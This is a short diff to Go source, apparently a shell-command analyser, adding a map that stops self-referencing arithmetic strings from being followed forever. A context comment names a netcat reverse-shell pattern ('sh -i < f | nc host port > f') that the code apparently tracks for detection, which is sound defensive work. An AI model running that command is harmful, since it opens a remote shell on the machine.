@@ -114,6 +114,9 @@ type walker struct {
 	// (sh -i < f | nc host port > f is a remote shell).
 	fifos    []string
 	plainDir string // see call.plainDir
+	// evaluating are the strings being evaluated as arithmetic, so that
+	// one that names itself is not followed forever.
+	evaluating map[string]bool
 }
 
 // Parsers are reused: building one allocates more than parsing a short
